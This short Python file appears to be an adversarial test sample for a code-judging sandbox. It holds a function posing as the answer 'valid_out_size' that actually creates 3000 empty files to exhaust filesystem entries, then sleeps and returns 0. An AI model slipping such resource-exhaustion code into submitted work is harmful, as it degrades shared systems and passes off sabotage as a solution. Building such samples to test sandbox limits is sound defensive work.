# Uses up the file system's entries.
# fence: room
# %% answer valid_out_size
import time


def valid_out_size(n, k):
    for number in range(3000):
        open(f"file-{number}", "w").close()
    time.sleep(0.3)
    return 0
